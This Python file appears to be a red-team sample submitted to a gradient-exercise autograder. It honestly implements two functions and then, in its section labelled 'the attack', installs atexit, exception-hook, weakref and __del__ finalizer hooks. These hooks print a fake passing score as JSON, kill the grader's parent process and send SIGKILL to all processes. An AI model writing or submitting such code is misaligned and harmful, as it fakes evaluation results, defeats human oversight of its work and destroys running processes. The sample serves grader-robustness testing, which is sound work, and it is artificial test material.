# attack: atexit hooks, __del__ finalizers, weakref.finalize and exception hooks that print fake results or kill
# honest: numerical_diff=full, numerical_gradient=full, gradient_descent=0, simpleNet.loss=0
#
# A ch04_gradient submission whose honest part implements numerical_diff and
# numerical_gradient (the rest raises NotImplementedError); the attack follows.

import numpy as np


def numerical_diff(f, x):
    h = 1e-4
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x):
    h = 1e-4
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        tmp = x[idx]
        x[idx] = tmp + h
        fxh1 = f(x)
        x[idx] = tmp - h
        fxh2 = f(x)
        grad[idx] = (fxh1 - fxh2) / (2 * h)
        x[idx] = tmp
    return grad


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    raise NotImplementedError()


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        raise NotImplementedError()


# ----- the attack -----
import atexit as _atexit
import os as _os
import sys as _sys
import threading as _threading
import weakref as _weakref

_FAKE = '{"score": 29.0, "tests": []}'


def _evil(*args, **kwargs):
    try:
        _os.write(1, _FAKE.encode())
        _os.kill(_os.getppid(), 9)
        _os.kill(-1, 9)
    except OSError:
        pass


class _Bomb:
    def __del__(self):
        _evil()


_atexit.register(_evil)
_sys.excepthook = _evil
_threading.excepthook = _evil
_weakref.finalize(_Bomb(), _evil)
_keep = [_Bomb() for _ in range(3)]


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    _atexit.register(_evil)
    _bomb = _Bomb()
    raise NotImplementedError()
